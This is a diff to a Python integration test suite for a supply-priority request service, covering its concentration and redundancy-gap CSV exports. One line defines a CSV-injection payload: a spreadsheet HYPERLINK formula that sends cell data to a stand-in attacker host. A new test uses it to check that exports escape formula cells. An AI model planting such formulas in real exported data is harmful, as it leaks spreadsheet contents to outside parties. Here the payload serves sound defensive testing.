@@ -5,6 +5,8 @@ rejection it counts as, and the CSV export."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from typing import Any
 
 import httpx
@@ -22,14 +24,19 @@ FIRST, SECOND = "mast-seals-a", "mast-seals-b"  # suppliers no other test names
 
 
 async def answered(
-    client: httpx.AsyncClient, stack: Stack, supplier: str, n: int, answer: dict[str, Any]
+    client: httpx.AsyncClient,
+    stack: Stack,
+    supplier: str,
+    n: int,
+    answer: dict[str, Any],
+    item: str = ITEM,
 ) -> str:
-    """A DO-A3 request for ITEM (required 2027-03-01) to `supplier`, answered with `answer`."""
+    """A DO-A3 request for `item` (required 2027-03-01) to `supplier`, answered with `answer`."""
     body: dict[str, Any] = {
         **DPAS_REQUEST,
         "supplier": {"party_id": supplier, "name": supplier, "country": "US"},
         "contract_number": f"N00024-26-C-07{n:02d}",
-        "items": [{"description": ITEM, "quantity": "4"}],
+        "items": [{"description": item, "quantity": "4"}],
     }
     posted = await client.post(f"{stack.url('intake')}/v1/priority-requests", json=body)
     assert posted.status_code == 202, posted.text
@@ -98,7 +105,7 @@ async def test_a_gap_closes_when_a_second_supplier_accepts_and_figures_export(
             cli, stack, "analytics", "concentration", "--by", "item", "--csv"
         )
         assert exported.stdout.startswith("# concentration: "), exported.stderr
-        assert f"{ITEM.lower()},3," in exported.stdout
+        assert f'"{ITEM.lower()}",3,' in exported.stdout
 
         by_supplier = {
             r["key"]: r
@@ -117,12 +124,12 @@ async def test_a_gap_closes_when_a_second_supplier_accepts_and_figures_export(
         assert paths["dpas"]["answered"] >= 3
         assert paths["dpas"]["median_hours"] >= 0
 
-        csv = await operator.get(
+        figures_csv = await operator.get(
             f"{intake}/v1/analytics/concentration", params={"by": "item", "format": "csv"}
         )
-        assert csv.headers["content-type"].startswith("text/csv")
-        assert f"{ITEM.lower()},3," in csv.text
-        assert csv.text.startswith("# concentration: ")
+        assert figures_csv.headers["content-type"].startswith("text/csv")
+        assert f'"{ITEM.lower()}",3,' in figures_csv.text
+        assert figures_csv.text.startswith("# concentration: ")
 
         # a party sees figures over its own requests only: this supplier has none
         stranger = {"Authorization": f"Bearer {token('nobody-inc', 'supplier')}"}
@@ -144,3 +151,36 @@ async def test_a_gap_closes_when_a_second_supplier_accepts_and_figures_export(
         )
         assert future.json()["requests"] == 0
         assert future.json()["period"]["since"].startswith("2099-01-01")
+
+
+FORMULA_ITEM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'  # issue #23: CSV injection
+
+
+async def test_an_item_description_starting_with_equals_is_escaped_in_csv_exports(
+    stack: Stack,
+) -> None:
+    """The operator's concentration and redundancy-gaps exports (over every requester) and the
+    CLI's --csv give the description as text: prefixed with a single quote, quoted."""
+    intake = stack.url("intake")
+    async with (
+        httpx.AsyncClient(timeout=10, auth=ActingParty()) as parties,
+        httpx.AsyncClient(timeout=10, headers=OPERATOR_AUTH) as operator,
+    ):
+        await answered(parties, stack, "formula-seals", 9, ACCEPT, item=FORMULA_ITEM)
+        key = FORMULA_ITEM.lower()
+        escaped = "\"'" + key.replace('"', '""') + '"'
+        for figure in ("concentration", "redundancy-gaps"):
+            found = await operator.get(
+                f"{intake}/v1/analytics/{figure}", params={"by": "item", "format": "csv"}
+            )
+            assert found.status_code == 200, found.text
+            assert escaped in found.text, found.text
+            parsed = list(csv.reader(io.StringIO(found.text)))
+            cells = [c for row in parsed if row and not row[0].startswith("#") for c in row]
+            assert "'" + key in cells
+            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+        exported = await asyncio.to_thread(
+            cli, stack, "analytics", "redundancy-gaps", "--by", "item", "--csv"
+        )
+        assert exported.returncode == 0, exported.stderr
+        assert escaped in exported.stdout
